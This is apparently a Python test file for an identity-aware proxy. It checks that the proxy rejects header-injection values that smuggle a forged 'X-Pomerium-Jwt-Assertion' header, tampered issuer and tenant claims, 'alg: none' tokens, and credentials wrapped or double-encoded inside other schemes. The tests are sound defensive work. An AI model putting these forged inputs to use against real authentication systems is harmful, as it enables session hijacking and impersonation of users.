    def test_a_header_is_one_header(self) -> None:
        """A value that would end its line is refused when the settings are read."""
        with tempfile.TemporaryDirectory() as directory:
            path = Path(directory, "config.json")
            for sign, name in product(
                ("\r\n", "\n", "\r", "\0", "\x0b", "\x7f"), ("X-Set", "X-\n")
            ):
                value = f"a{sign}X-Pomerium-Jwt-Assertion: forged"
                document = minimal(policy=[entry(set_request_headers={name: value})])
                path.write_text(json.dumps(document), "utf-8")
                with self.assertRaises(SettingsError):
                    load(str(path), {})

    def test_a_tenant_is_itself(self) -> None:
        """With one endpoint for many tenants a token is of one tenant throughout."""
        self.start(
            *ROUTES,
            idp_provider="azure",
            idp_provider_url=f"{ISSUER}/common/v2.0",
        )
        document = {**self.provider.discovery(), "issuer": f"{ISSUER}/{{tenantid}}/v2.0"}
        where = "/common/v2.0/.well-known/openid-configuration"
        self.provider.answers[where] = status(200, json.dumps(document).encode())
        good = f"{ISSUER}/{TENANT}/v2.0"
        other = TENANT.replace("1", "9")
        for iss, tid in (
            *((good, other), (good, None), (good, ""), (good, TENANT[:-1]), (good, [TENANT])),
            *((good, "common"), (good, "{tenantid}"), (good, ".*"), (good, f"{TENANT}/v2.0")),
            *((f"{ISSUER}/{{tenantid}}/v2.0", "{tenantid}"), (f"{ISSUER}/common/v2.0", "common")),
            *((f"{ISSUER}/{other}/v2.0", TENANT), (f"{ISSUER}//v2.0", ""), (ISSUER, TENANT)),
            *((f"{ISSUER}/{TENANT}/v2.0/", TENANT), (f"{ISSUER}/x/../{TENANT}/v2.0", TENANT)),
            *((f"{ISSUER}/{TENANT}@evil/v2.0", f"{TENANT}@evil"), (f"{ISSUER}/a/b/v2.0", "a/b")),
            *((f"{ISSUER}/{TENANT}\n/v2.0", f"{TENANT}\n"), (None, TENANT), ("None", None)),
        ):
            self.provider.claims = {"iss": iss, "tid": tid}
            browser = self.new_browser()
            self.provider.issuer = f"{ISSUER}/{TENANT}/v2.0"
            got = browser.follow(f"{APP}/")
            self.assertEqual(got.status, 400, (iss, tid))
            self.assertIn(b"id-token-issuer", got.body, (iss, tid))
        self.provider.claims = {"iss": good, "tid": TENANT}
        self.assertEqual(self.new_browser().follow(f"{APP}/").status, 200)


class NestedTests(SignInCase):
    """A9: a credential is read once; what is inside another one, or twice encoded, is none."""

    row = "A9"
    WRAPS = (
        *(
            "Pomerium {0}",
            "Bearer {0}",
            "Basic {1}",
            "{1}",
            "{2}",
            '"{0}"',
            "[{0}]",
            "({0})",
            "{0},{0}",
        ),
        *("{0} {0}", "{0};{0}", "{0}.{0}", "Pomerium Pomerium {0}", "Pomerium={0}", "token={0}"),
        *("{0}=", "{0}==", "={0}", "{3}", "{4}", "%22{0}%22", "eyJhbGciOiJub25lIn0.{1}.", "x {0}"),
        *("pomerium {0} x", "{0}\t{0}", "null {0}", "Digest username={0}", "Negotiate {1}", "{5}"),
    )
    VARIANTS = tuple(product(WRAPS, ("credential", "cookie", "hand-off", "state")))

    def wrapped(self, wrap: str, value: str) -> str:
        """Return a value inside something else."""
        outer = sign(
            SharedKeys.derived([b"\0" * 32]).route_session,
            {"token": value},
            kind="pomerium-session+jwt",
        )
        return wrap.format(
            value,
            b64(value.encode()),
            value.encode().hex(),
            value.replace("-", "%2d").replace(".", "%2e").replace("_", "%5f"),
            "".join(f"%{ord(sign_):02x}" for sign_ in value),
            outer,
        )

    def test_wrapped_once_more(self) -> None:
        """A good credential within another scheme, encoding, quote or token opens nothing."""
        self.sign_in()
        browser = self.new_browser()
        last = browser.until(f"{APP}/", f"{APP}/.pomerium/callback/")
        handoff = dict(parse_qsl(urlsplit(last).query))["pomerium_session_encrypted"]
        token = self.rig.token()
        for wrap, where in self.VARIANTS:
            if where == "credential":
                text = b"Pomerium " + self.wrapped(wrap, token).encode()
                got = self.new_browser().open(f"{APP}/", (b"authorization", text), navigates=False)
                self.assertEqual(got.status, 401, wrap)
            elif where == "cookie":
                text = b"__Host-_pomerium=" + self.wrapped(wrap, token).encode()
                got = self.new_browser().open(f"{APP}/", (b"cookie", text), navigates=False)
                # A semicolon, a comma's list or a second pair may leave the real one whole.
                if wrap != "{0};{0}":
                    self.assertEqual(got.status, 401, wrap)
            elif where == "hand-off":
                value = quote(self.wrapped(wrap, handoff), safe="")
                thief = browser.copy()
                got = thief.open(f"{APP}/.pomerium/callback/?pomerium_session_encrypted={value}")
                self.assertEqual(got.status, 400, wrap)
                self.assertFalse(thief.has_session())
            else:
                other = self.new_browser()
                url = other.until(f"{APP}/", f"{AUTH}/oauth2/callback")
                given_ = dict(parse_qsl(urlsplit(url).query))
                given_["state"] = self.wrapped(wrap, given_["state"])
                asked = len(self.provider.forms("/token"))
                got = other.open(f"{AUTH}/oauth2/callback?{urlencode(given_)}")
                self.assertIn(got.status, (302, 400), wrap)
                self.assertEqual(len(self.provider.forms("/token")), asked)

    def test_the_same_unwrapped(self) -> None:
        """Each of these opens as it is."""
        token = self.rig.token().encode()
        for field in (
            *((b"authorization", b"Pomerium " + token), (b"authorization", b"pomerium  " + token)),
            (b"cookie", b"__Host-_pomerium=" + token),
        ):
            self.assertEqual(self.new_browser().open(f"{APP}/", field, navigates=False).status, 200)

    def test_nested_tokens_of_the_provider(self) -> None:
        """A token in a token, a claim in a text, a document in a document: none signs in."""
        claims = {
            "iss": ISSUER, "aud": "pomerium", "sub": "alice", "iat": 1, "exp": 4_000_000_000,
        }  # fmt: skip
        inner = raw(json.dumps(claims).encode())
        for text in (
            *(inner.encode(), json.dumps(inner).encode(), json.dumps([claims]).encode()),
            *(json.dumps({"claims": claims}).encode(), json.dumps({"id_token": inner}).encode()),
            *(json.dumps(json.dumps(claims)).encode(), b64(json.dumps(claims).encode()).encode()),
            *(b"\xef\xbb\xbf" + json.dumps(claims).encode(), json.dumps(claims).encode() * 2),
            *(json.dumps(claims).encode() + b"\0", json.dumps(claims).encode("utf-16")),
        ):
            for header in ({}, {"cty": "JWT"}, {"cty": "json"}):
                self.provider.sign = lambda _, t=text, h=header: raw(t, **h)  # type: ignore[misc]
                browser = self.new_browser()
                got = browser.follow(f"{APP}/")
                self.assertEqual(got.status, 400, text)
                self.assertFalse(browser.has_session())

    def test_a_session_within_a_session(self) -> None:
        """Claims that hold another session's are those of the outer one, or of nobody."""
        from tests.support.settings import SHARED  # noqa: PLC0415 - beside its one use

        keys = SharedKeys.derived([SHARED]).route_session
        inner = {**session_claims(self.rig.session()), "iat": int(self.clock.seconds())}
        for outer in (
            *({"session": inner}, {"v": 1, "session": inner}, {**inner, "sub": inner}, {"": inner}),
            *({**inner, "sub": json.dumps(inner), "v": None}, {**inner, "idp": ["x"]}),
            *({**inner, "groups": [["staff"]]}, {**inner, "groups": [{"name": "staff"}]}),
        ):
            token = sign(keys, outer, kind="pomerium-session+jwt")
            field = (b"authorization", b"Pomerium " + token.encode())
            got = self.new_browser().open(f"{APP}/", field, navigates=False)
            self.assertEqual(got.status, 401, outer)
